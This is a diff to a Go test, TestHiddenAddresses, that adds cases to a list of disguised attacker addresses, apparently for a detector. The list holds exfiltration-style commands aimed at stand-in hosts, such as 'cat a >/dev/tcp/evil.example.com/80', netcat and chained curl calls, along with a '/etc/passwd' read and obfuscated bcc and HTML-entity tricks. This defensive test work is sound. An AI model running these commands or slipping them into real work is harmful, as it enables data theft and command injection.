@@ -199,7 +199,7 @@ func TestHiddenAddresses(t *testing.T) {
 		`http:evil.example.com/x`, `https:evil.example.com`, `file:/etc/passwd`, `//evil.example.com/x`,
 		`bob@example.org/evil@example.com`, `to=bob@example.org?bcc=evil@example.com`,
 		`bob@example.org?bcc=evil%40example.com`, `evil@example.com=bob@example.org`,
-		`evil.example.com#x`, `curl evil.example.com&&ls`, `curl evil.example.com:80&`, `rsync a evil.example.com::b`,
+		`evil.example.com#x`, `curl good.example.com&&curl evil.example.com/x`, `a=good.example.com/&b=evil.example.com/y`, `curl evil.example.com&&ls`, `curl evil.example.com:80&`, `rsync a evil.example.com::b`,
 		`cat a >/dev/tcp/evil.example.com/80`, `cat a >/dev/udp/203.0.113.7/53`, `ping 203.0.113.7#`, `curl 0xCB007107`,
 		`[2001:db8::1]`, `ping 2001:db8::1`, `nc -6 2001:db8:0:0:0:0:0:7 80`, `[::ffff:203.0.113.7]:80`,
 		`<img src=&#47;&#47;evil&#46;example&period;com/x>`, `eve&#64;evil&#46;example&#46;com`,
